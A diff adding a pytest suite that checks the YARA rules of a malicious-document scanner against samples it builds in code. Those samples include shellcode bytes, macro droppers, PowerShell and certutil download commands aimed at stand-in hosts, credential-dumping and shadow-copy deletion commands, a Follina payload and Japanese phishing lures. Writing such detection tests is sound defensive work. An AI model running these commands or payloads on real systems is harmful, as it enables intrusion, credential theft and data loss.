@@ -1,0 +1,213 @@
+"""The rules that come with the product: each fires on a sample built by code, none of `high` on anything clean."""
+
+from __future__ import annotations
+
+import base64
+import csv
+import re
+import struct
+import tomllib
+from pathlib import Path
+
+import pytest
+import yara
+
+from sanitizers.identify import identify
+from sanitizers.model import Kind, Severity
+from sanitizers.scan import compile_rules
+from sanitizers.source import Source
+from tests.build import kinds
+
+RULES = Path(__file__).resolve().parents[2] / "rules"
+CORPUS = Path("/work/shared/corpus")
+FILES = {path.name: path.read_text("utf-8") for path in RULES.iterdir() if path.suffix == ".yar" or path.name == "catalog.toml"}
+CATALOG = tomllib.loads(FILES["catalog.toml"])
+SCANNER = compile_rules(FILES)
+META = {
+    rule.identifier: rule.meta
+    for name, text in FILES.items()
+    if name.endswith(".yar")
+    for rule in yara.compile(source=text, externals={"kind": "", "where": "", "size": 0})
+}
+
+VBA = b'Attribute VB_Name = "ThisDocument"\r\n'
+# Put together here, so that neither this file nor the rules hold the test file itself.
+EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}" + b"$" + b"EICAR-STANDARD-ANTIVIRUS" + b"-TEST-FILE!$H+H*"
+STUB = b"This program cannot be run " + b"in DOS mode"
+PROGRAM = (b"MZ" + bytes(58) + struct.pack("<I", 0x80) + b"\x0e\x1f" + STUB).ljust(0x80, b"\x00") + b"PE\x00\x00" + bytes(32)
+X86 = bytes.fromhex("fce882000000" + "6089e531d2648b5230")
+X64 = bytes.fromhex("fc4883e4f0e8c0000000" + "4151415052515648")
+LINK = kinds.SAMPLES[Kind.LNK][1]
+MONIKER = bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b")
+OLE_LINK = bytes.fromhex("0003000000000000c000000000000046")
+HOST = b"https://203.0.113.7"
+
+
+def wide(text: bytes) -> bytes:
+    return text.decode("ascii").encode("utf-16-le")
+
+
+# Rule → samples that it must see: (kind, bytes) or (kind, bytes, where).
+FIRES: dict[str, list[tuple[object, ...]]] = {
+    "Test_EICAR": [
+        (Kind.TEXT, EICAR), (Kind.DOC, bytes(100) + EICAR), (Kind.HTML, b"<a>" + base64.b64encode(EICAR) + b"</a>"),
+        (Kind.HTML, base64.b64encode(b"x" + EICAR)), (Kind.RTF, EICAR.hex().encode()), (Kind.XLS, wide(EICAR)), (Kind.EML, EICAR, "body"),
+    ],
+    "Test_GTUBE": [(Kind.EML, b"XJS*C4JDBQADN1.NSBN3*2IDNEN*" + b"GTUBE-STANDARD-ANTI-UBE-TEST-EMAIL*C.34X")],
+    "Office_AutoOpen": [(Kind.DOC, VBA + b"Sub AutoOpen()\r\nEnd Sub"), (Kind.XLSM, VBA + b"Private Sub Workbook_Open()", "xl/vbaProject.bin")],
+    "Office_MacroStartsProgram": [(Kind.DOC, VBA + b'CreateObject("WScript.Shell")'), (Kind.DOC, VBA + b'x = Shell("calc")')],
+    "Office_MacroDownloads": [(Kind.DOC, VBA + b'Declare Function URLDownloadToFile Lib "urlmon"'), (Kind.DOC, VBA + b"Msxml2.XMLHTTP")],
+    "Office_MacroDropper": [(Kind.DOC, VBA + b'Sub AutoOpen()\nShell "power" & "shell -w hidden (New-Object Net.WebClient).DownloadFile(1,2)"')],
+    "Office_MacroObfuscated": [(Kind.DOC, VBA + b"x = " + b"Chr(65) & " * 9 + b'""'), (Kind.DOC, VBA + b'StrReverse("exe.x")')],
+    "Office_ExcelMacroSheet": [(Kind.XLSM, b"xl/macrosheets/sheet1.xml"), (Kind.SLK, b'C;X1;Y1;K0;E=EXEC("calc")')],
+    "Office_EquationEditor": [
+        (Kind.DOC, bytes.fromhex("02ce020000000000c000000000000046")), (Kind.RTF, b"\\objclass Equation.3"), (Kind.RTF, b"Equation.3".hex().encode()),
+    ],
+    "Office_LinkedObjectFromWeb": [
+        (Kind.DOC, OLE_LINK + MONIKER + wide(b"http://a/b")), (Kind.RTF, b"{\\object\\objautlink " + MONIKER.hex().upper().encode() + b"}"),
+    ],
+    "Office_RemoteTemplate": [
+        (Kind.DOCX, b'<Relationship Type="x/attachedTemplate" Target="https://a/t.dotm" TargetMode="External"/>', "word/_rels/settings.xml.rels"),
+    ],
+    "Office_Dde": [(Kind.DOC, b"DDEAUTO c:\\\\windows\\\\cmd.exe"), (Kind.CSV, b"=cmd|'/c calc'!A0"), (Kind.XLSX, b'ddeService="cmd"')],
+    "Office_PackagedProgram": [
+        (Kind.DOC, wide(b"\x01Ole10Native") + b"C:\\x\\a.exe\x00"), (Kind.RTF, b"5061636b61676500" + b"a.vbs\x00".hex().encode()),
+    ],
+    "Office_Follina": [(Kind.HTML, b'<script>location.href = "ms-msdt:/id PCWDiagnostic /param \\"IT_BrowseForFile=/../$(x)\\""</script>')],
+    "Pdf_LaunchesProgram": [(Kind.PDF, b"<</S /Launch /F (cmd.exe)>>")],
+    "Pdf_ScriptOnOpen": [(Kind.PDF, b"/OpenAction <</S /JavaScript /JS (x)>>")],
+    "Pdf_HiddenName": [(Kind.PDF, b"<</S /#4aavaScrip#74 /#4a#53 (x)>>")],
+    "Pdf_KnownExploit": [(Kind.PDF, b'x = unescape("%u9090%u9090%u4343%u4343"); Collab.collectEmailInfo({msg: x})', "JavaScript")],
+    "Pdf_AttachedProgram": [(Kind.PDF, b"/Type /Filespec /F (invoice.EXE) /EF <</F 1 0 R>> /EmbeddedFiles")],
+    "Pdf_RichMedia": [(Kind.PDF, b"/Subtype /RichMedia "), (Kind.PDF, b"/XFA [1 0 R]")],
+    "Shellcode_ApiHashBlock": [
+        (Kind.DOC, X86), (Kind.DOC, X64), (Kind.TEXT, base64.b64encode(X86)), (Kind.TEXT, base64.b64encode(X64)), (Kind.RTF, X86.hex().encode()),
+        (Kind.TEXT, "".join(f"\\x{byte:02x}" for byte in X64).encode()), (Kind.EML, base64.b64encode(X86), "body"),
+    ],
+    "Shellcode_FindsItself": [(Kind.DOC, bytes.fromhex("d9eed97424f45b")), (Kind.TEXT, bytes.fromhex("64a1300000008b400c"))],
+    "Shellcode_EscapedSled": [(Kind.HTML, b"%u9090" * 4), (Kind.TEXT, b"\\x90" * 16), (Kind.RTF, b"90" * 64), (Kind.PDF, b"%u0c0c" * 4)],
+    "Shellcode_RawSled": [(Kind.DOC, b"\x90" * 40 + b"\xe8")],
+    "Embedded_Program": [(Kind.DOC, bytes(512) + PROGRAM), (Kind.ZIP, PROGRAM)],
+    "Embedded_ProgramByHeader": [(Kind.DOC, bytes(512) + PROGRAM.replace(STUB, bytes(len(STUB)))), (Kind.CFB, b"MZMZ" + PROGRAM)],
+    "Embedded_ProgramEncoded": [
+        (Kind.HTML, base64.b64encode(PROGRAM)), (Kind.HTML, base64.b64encode(b"xx" + PROGRAM)), (Kind.RTF, PROGRAM.hex().encode()),
+        (Kind.TEXT, PROGRAM[::-1]), (Kind.TEXT, wide(STUB)), (Kind.EML, base64.b64encode(PROGRAM), "body"),
+    ],
+    "Embedded_ProgramInBase64": [(Kind.TEXT, b"TVqQAAMAAAAEAAAA" + b"A" * 60)],
+    "Embedded_Shortcut": [(Kind.DOC, LINK), (Kind.RTF, LINK.hex().encode()), (Kind.HTML, base64.b64encode(LINK))],
+    "Embedded_SelfExtractor": [(Kind.DOC, b"7-Zip SFX"), (Kind.ZIP, wide(b"WinRAR SFX"))],
+    "Script_DownloadsAndRuns": [(Kind.DOC, b"powershell (New-Object Net.WebClient).DownloadString('x')"), (Kind.LNK, wide(b"powershell iwr; Invoke-WebRequest"))],
+    "Script_EncodedPowerShell": [(Kind.TEXT, b"powershell.exe -nop -w hidden -enc " + b"QUJD" * 20), (Kind.TEXT, b"IEX ([Convert]::FromBase64String('x'))")],
+    "Script_SystemToolAbused": [
+        (Kind.TEXT, b"certutil.exe -urlcache -f http://a b"), (Kind.TEXT, b"mshta http://a/b.hta"), (Kind.TEXT, b"regsvr32 /s /n /u /i:http://a/b.sct scrobj.dll"),
+        (Kind.TEXT, b"bitsadmin /transfer x"), (Kind.TEXT, b'rundll32 "javascript:x'), (Kind.TEXT, b"wmic process call create calc"),
+    ],
+    "Script_StealsCredentials": [(Kind.TEXT, b"sekurlsa::" + b"logonpasswords"), (Kind.TEXT, b"reg save hklm\\sam x"), (Kind.TEXT, b"procdump -ma lsass.exe")],
+    "Script_DeletesBackups": [(Kind.TEXT, b"vssadmin delete shadows /all"), (Kind.TEXT, b"bcdedit /set {default} recoveryenabled no")],
+    "Html_Smuggling": [(Kind.HTML, b"<script>b=new Blob([atob('x')]);a.href=URL.createObjectURL(b);a.download='x.zip'</script>")],
+    "Html_ObfuscatedScript": [(Kind.HTML, b"eval(function(p,a,c,k,e,d){})"), (Kind.SVG, b"document.write(unescape('%3C'))"), (Kind.HTML, b"var _0x1a2b=['x']")],
+    "Html_PhishingForm": [(Kind.HTML, b'<title>Microsoft</title><form action="https://a.example/x"><input name="p" type="password"></form>')],
+    "Html_RefreshToData": [(Kind.HTML, b'<meta http-equiv="refresh" content="0;url=data:text/html,x">')],
+    "Html_TracksReader": [(Kind.HTML, b'<img src="https://a/x.gif" width="1" height="1">')],
+    "Link_ProgramOnBareAddress": [(Kind.TEXT, HOST + b"/dl/a.exe"), (Kind.DOC, wide(HOST + b":8080/b.hta"))],
+    "Link_StartsProtocol": [(Kind.HTML, b'<a href="search-ms:query=x">'), (Kind.DOCX, b'Target="ms-officecmd:x"'), (Kind.TEXT, b"search-ms:query=a&crumb=location:\\\\b")],
+    "Link_NetworkShare": [(Kind.HTML, b'<img src="file://server.example/x.png">'), (Kind.HTML, b'<img src="\\\\server.example\\x">')],
+    "Link_HiddenHost": [(Kind.HTML, b"https://www.city.lg.jp@evil.example/"), (Kind.TEXT, b"https://xn--pple-43d.com/")],
+    "Lure_EnableContent": [
+        (Kind.DOC, "「コンテンツの有効化」を押す".encode("utf-16-le") + wide(b"_VBA_PROJECT")), (Kind.XLSM, "編集を有効にする".encode() + b"xl/vbaProject.bin"),
+        (Kind.XLS, "編集を有効にする".encode("cp932") + wide(b"_VBA_PROJECT")), (Kind.DOC, b"Enable Content" + wide(b"_VBA_PROJECT")),
+    ],
+    "Lure_AccountStopped": [
+        (Kind.EML, "アカウントを停止しました。24時間以内に本人確認を https://a.example/".encode(encoding)) for encoding in ("utf-8", "cp932", "iso2022_jp")
+    ],
+    "Lure_OverdueTax": [(Kind.EML, "国税庁より：未納の税金。差し押さえの最終通知 https://a.example/".encode())],
+    "Lure_PackedAndLocked": [(Kind.EML, 'Content-Disposition: attachment; filename="a.zip"\r\n\r\n解凍パスワード'.encode("iso2022_jp"))],
+}  # fmt: skip
+
+CLEAN = [
+    (Kind.TEXT, "マクロを有効にしてください。パスワードは別途送付します。本人確認書類を同封。 https://www.city.example.lg.jp/".encode()),
+    (Kind.EML, b"From: a@example.jp\r\n\r\n" + base64.b64encode(EICAR)),       # the attachment is looked at as the part that it is
+    (Kind.EML, b"From: a@example.jp\r\n\r\n" + base64.b64encode(PROGRAM)),
+    (Kind.DOC, VBA + b"Sub Button1_Click()\r\nRange(1).Value = 2\r\nEnd Sub"),
+    (Kind.DOC, MONIKER + wide(b"https://www.example.lg.jp/")),                     # an ordinary hyperlink
+    (Kind.HTML, b'<form action="/search"><input type="text"></form><script>document.write("x")</script>'),
+    (Kind.PDF, b"/OpenAction [1 0 R /XYZ 0 0 1] /URI (https://www.example.lg.jp/)"),
+    (Kind.PNG, b"\x90" * 4096),
+    (Kind.PE, PROGRAM),
+    (Kind.CSV, "氏名,電話\r\n山田,+81-3-1234-5678\r\n".encode("cp932")),
+    *((kind, data) for kind, (_, data) in kinds.SAMPLES.items() if kind not in (Kind.LNK, Kind.SCRIPT)),
+]
+
+
+def found(kind: Kind, data: bytes, where: str = "") -> set[str]:
+    return {match.rule for match in SCANNER.scan(Source(data), where, kind)}
+
+
+def test_every_rule_has_its_row_and_every_row_its_rule() -> None:
+    assert set(META) == set(CATALOG)
+
+
+def test_every_row_is_complete() -> None:
+    for name, row in CATALOG.items():
+        assert set(row) == {"state", "owner", "why_ja", "why_en"}, name
+        assert row["state"] in ("enabled", "evaluation", "disabled"), name
+        assert row["owner"], name
+        assert not row["why_ja"].isascii(), name
+        assert row["why_en"].isascii(), name
+
+
+def test_every_rule_says_who_and_what() -> None:
+    for name, meta in META.items():
+        assert re.fullmatch(r"SKS-\d{4}", meta["id"]), name
+        assert meta["severity"] in set(Severity), name
+        assert meta["author"] == "Sekisho", name
+        assert re.fullmatch(r"\d+\.\d+\.\d+", meta["since"]), name
+    assert len({meta["id"] for meta in META.values()}) == len(META)
+
+
+def test_no_two_files_have_a_rule_of_the_same_name() -> None:
+    names = re.findall(r"^rule (\w+)", "\n".join(FILES.values()), re.MULTILINE)
+    assert len(names) == len(set(names))
+
+
+def test_no_rule_file_is_malware_to_a_scanner() -> None:
+    for text in FILES.values():
+        assert EICAR not in text.encode()
+
+
+def test_there_is_a_sample_for_every_rule() -> None:
+    assert set(FIRES) == set(META)
+
+
+@pytest.mark.parametrize("rule", sorted(META))
+def test_a_rule_fires_on_each_of_its_samples(rule: str) -> None:
+    for sample in FIRES[rule]:
+        assert rule in found(*sample), sample  # type: ignore[arg-type]
+
+
+@pytest.mark.parametrize("index", range(len(CLEAN)))
+def test_nothing_fires_on_clean_samples(index: int) -> None:
+    assert found(*CLEAN[index]) == set()
+
+
+def test_a_rule_under_evaluation_only_informs() -> None:
+    trial = next(rule for rule, row in CATALOG.items() if row["state"] == "evaluation" and META[rule]["severity"] != "info")
+    matches = SCANNER.scan(Source(FIRES[trial][0][1]), "", FIRES[trial][0][0])  # type: ignore[arg-type]
+    assert {m.severity for m in matches if m.rule == trial} == {Severity.INFO}
+
+
+# Real files that are attacks or carry a test mark: anything else with a `high` match is a false alarm.
+ATTACKS = {"eicar"}
+
+
+@pytest.mark.corpus
+@pytest.mark.skipif(not (CORPUS / "MANIFEST.tsv").is_file(), reason="the shared corpus is absent")
+def test_no_high_rule_fires_on_an_honest_real_file() -> None:
+    alarms = []
+    with (CORPUS / "MANIFEST.tsv").open(encoding="utf-8", newline="") as stream:
+        for row in csv.DictReader(stream, delimiter="\t", quoting=csv.QUOTE_NONE):
+            source = Source((CORPUS / row["path"]).read_bytes())
+            matches = SCANNER.scan(source, "", identify(source, row["path"]))
+            if not ATTACKS & set(row["traits"].split(",")):
+                alarms += [(row["path"], match.rule) for match in matches if match.severity is Severity.HIGH]
+    assert alarms == []
